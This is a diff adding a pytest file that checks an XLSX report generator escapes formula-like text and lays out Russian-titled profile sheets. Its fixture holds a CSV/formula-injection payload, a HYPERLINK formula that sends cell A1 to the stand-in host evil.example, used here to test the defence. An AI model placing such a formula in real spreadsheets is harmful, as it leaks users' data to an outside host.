@@ -1,0 +1,107 @@
+"""XLSX: a sheet per section, the profile table with filters and frozen header, safe text."""
+
+from __future__ import annotations
+
+import copy
+import io
+from pathlib import Path
+
+import pyarrow.parquet as pq
+import pytest
+from openpyxl import load_workbook
+
+from segprofile import pipeline
+from segprofile.model.study import Study
+from segprofile.report.xlsx import neutralise
+from sp_factories import SMALL_STUDY, make_records
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"нажми")'
+
+
+@pytest.fixture(scope="module")
+def workbook(tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
+    doc = copy.deepcopy(SMALL_STUDY)
+    doc["features"][0]["label"] = EVIL
+    doc["features"][0]["value_labels"]["epgu"] = "+7 ЕПГУ"
+    doc["features"][3]["value_labels"] = {"city": "@город", "town": "-посёлок", "rural": "\tсело"}
+    study = Study.model_validate(doc)
+    data = tmp_path_factory.mktemp("xlsx")
+    pq.write_table(make_records(2000, seed=3), data / "records.parquet")
+    profile = pipeline.profile_study(study, data)
+    content = pipeline.render_report(profile, study, "xlsx")
+    return load_workbook(io.BytesIO(content)), profile
+
+
+def all_strings(wb) -> list[str]:  # type: ignore[no-untyped-def]
+    return [
+        c.value
+        for ws in wb.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if isinstance(c.value, str)
+    ]
+
+
+def test_neutralise() -> None:
+    assert neutralise("=1+1") == "'=1+1"
+    assert neutralise("-5") == "'-5"
+    assert neutralise("\tx") == "'\tx"
+    assert neutralise("Обычный текст") == "Обычный текст"
+
+
+def test_no_cell_can_start_a_formula(workbook) -> None:  # type: ignore[no-untyped-def]
+    wb, _ = workbook
+    strings = all_strings(wb)
+    assert any(s == "'" + EVIL for s in strings)
+    assert any(s == "'+7 ЕПГУ" for s in strings)
+    assert any(s == "'@город" for s in strings)
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate)
+                if isinstance(cell.value, str):
+                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_profile_sheet_is_the_profile_table(workbook) -> None:  # type: ignore[no-untyped-def]
+    wb, profile = workbook
+    assert wb.sheetnames[0] == "Титул"
+    assert wb.sheetnames[1] == "Профиль"
+    ws = wb["Профиль"]
+    header = [c.value for c in ws[2]]
+    assert header[:4] == ["Признак", "Сегмент", "Ключ", "Ёмкость"]
+    assert "Слепая зона" in header
+    assert "Ранг приоритета" in header
+    assert ws.freeze_panes == "A3"
+    assert ws.auto_filter.ref.startswith("A2:")
+    rows = {r[2]: r for r in ws.iter_rows(min_row=3, values_only=True) if r[2]}
+    age = profile.by_feature[1]
+    for seg in age.segments:
+        assert rows[seg.key][3] == seg.capacity  # numbers stay numbers
+    assert ws.cell(row=3, column=5).number_format == "0.0%"
+    assert ws.column_dimensions["S"].width >= 40
+
+
+def test_a_sheet_per_section_with_russian_text(workbook) -> None:  # type: ignore[no-untyped-def]
+    wb, profile = workbook
+    names = " ".join(wb.sheetnames)
+    for part in ("Область", "Роли", "Признаки", "Сегменты", "Гипотезы", "Происхождение"):
+        assert part in names
+    cover = wb["Титул"]
+    assert cover["A2"].value == "Малое исследование"
+    provenance = next(ws for ws in wb.worksheets if "Происхождение" in ws.title)
+    values = [c for row in provenance.iter_rows(values_only=True) for c in row if c]
+    assert profile.provenance.data_fingerprint in values
+
+
+def test_internal_accounting_example(tmp_path: Path) -> None:
+    study = pipeline.example_study("internal-accounting")
+    pipeline.generate_demo_data("internal-accounting", tmp_path, rows=800)
+    profile = pipeline.profile_study(study, tmp_path)
+    wb = load_workbook(io.BytesIO(pipeline.render_report(profile, study, "xlsx")))
+    assert wb["Титул"]["A1"].value == "Профиль внутреннего клиента"
+    roles = next(ws for ws in wb.worksheets if "Роли" in ws.title)
+    texts = " ".join(
+        c for row in roles.iter_rows(values_only=True) for c in row if isinstance(c, str)
+    )
+    assert "Внутренний клиент" in texts
